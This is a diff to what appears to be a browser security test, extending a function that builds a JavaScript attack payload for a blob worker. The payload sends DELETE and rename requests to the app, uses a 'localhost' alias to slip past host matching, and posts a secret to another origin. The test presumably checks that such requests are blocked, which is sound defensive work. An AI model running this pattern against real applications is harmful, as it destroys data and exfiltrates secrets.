@@ -8,10 +8,14 @@ function ran(tag) {
   fetch("/" + CH + "/ran" + (tag ? "-" + tag : ""));
 }
 
-// the attack a payload (page, frame, popup, worker) makes: DELETE on the app, a secret off the plan
+// the attack a blob worker makes (as worker.js does): DELETE on the app, also by another name
+// for it, a plain write, and a secret off the plan
 function attackSource(tag) {
+  var alias = APP.replace("127.0.0.1", "localhost");
   return 'fetch("' + APP + '/' + CH + '/ran-' + tag + '");' +
     'fetch("' + APP + '/' + CH + '/items/6?from=' + tag + '", {method: "DELETE"});' +
+    'fetch("' + APP + '/' + CH + '/items/6/rename?from=' + tag + '", {method: "POST", body: "n=x"});' +
+    'fetch("' + alias + '/' + CH + '/items/7?from=' + tag + '-localhost", {method: "DELETE"});' +
     'fetch("' + OTHER + '/' + CH + '/collect?from=' + tag + '", ' +
     '{method: "POST", mode: "no-cors", body: "' + SECRET + '"});';
 }
